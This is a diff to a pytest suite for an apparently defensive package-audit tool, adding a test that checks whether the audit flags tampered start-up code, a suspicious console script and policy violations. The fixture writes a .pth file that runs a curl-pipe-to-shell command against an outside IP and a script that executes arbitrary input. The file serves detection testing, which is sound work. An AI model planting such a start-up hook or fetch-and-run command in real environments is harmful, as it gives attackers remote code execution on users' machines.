@@ -93,7 +93,7 @@ def environment(tmp_path_factory):
             target.parent.mkdir(parents=True, exist_ok=True)
             shutil.copy2(str(copied.locate_file(file)), target)
     # The engine comes from outside: it is not what is tampered with. After the copies on the path.
-    sources = [str(ROOT / "engine"), str(ROOT / "plugins" / "quantum")]
+    sources = [str(ROOT / place) for place in ("engine", "plugins/experts", "plugins/quantum")]
     outside = [*sources, sysconfig.get_path("purelib"), sysconfig.get_path("platlib")]
     (lib / "outside.pth").write_text("\n".join(outside) + "\n")
     example = home / "audit"
@@ -103,10 +103,10 @@ def environment(tmp_path_factory):
     return home, python, lib
 
 
-def audit(environment, code=0):
+def audit(environment, *arguments, code=0):
     home, python, _ = environment
     result = outcome(
-        home / "audit" / "audit.yaml", "--store", home / "store",
+        home / "audit" / "audit.yaml", "--store", home / "store", *arguments,
         python=python, cwd=home, code=code,
     )  # fmt: skip
     return result, {
@@ -154,6 +154,39 @@ def test_the_audit_finds_what_was_tampered_with_on_a_second_run_too(environment)
     evil.unlink()
     _, findings = audit(environment)
     assert {found[0] for found in findings if found[1] == "iniconfig"} <= {"no-licence"}
+
+
+def test_experts_look_at_start_up_code_scripts_and_the_policy(environment):
+    home, _, lib = environment
+    spy = lib / "spy.pth"
+    spy.write_text('/a/folder\nimport os; os.system("curl -s http://198.51.100.7/x | sh")\n')
+    script = lib.parents[2] / "bin" / "iniconfig-tool"
+    script.write_text("#!/usr/bin/env python3\nexec(input())\n")
+    points = next(lib.glob("iniconfig-*.dist-info")) / "entry_points.txt"
+    points.write_text("[console_scripts]\niniconfig-tool = iniconfig:main\n")
+    policy = home / "strict.yaml"
+    policy.write_text('licences: [Apache-2.0]\nversions: {pluggy: ">=99"}\n')
+
+    result, findings = audit(environment, "-i", f"policy={policy}")
+
+    found = [(each["kind"], each["distribution"], each["detail"])
+             for each in result["outputs"]["findings"]]  # fmt: skip
+    version = metadata.version("pluggy")
+    assert (
+        "policy", "pluggy", f"version {version} where >=99 is wanted (rejected: counterexample)"
+    ) in findings  # fmt: skip
+    assert ("policy", "iniconfig", "licence MIT (rejected: counterexample)") in findings
+    patterns = {(name, detail.rpartition(": ")[0]) for kind, name, detail in found
+                if kind == "attack-pattern"}  # fmt: skip
+    assert any(f"{spy}:2: " in detail for _, detail in patterns), patterns
+    assert any(name == "iniconfig" and f"{script}:2: " in detail for name, detail in patterns)
+    for name in ("report.md", "report.html", "report.json"):
+        assert "attack-pattern" in (home / "audit" / "audit-report" / name).read_text()
+
+    for each in (spy, script, points, policy):
+        each.unlink()
+    result, findings = audit(environment)
+    assert not [each for each in findings if each[0] == "policy"]
 
 
 def test_a_second_audit_is_answered_from_the_cache(environment):
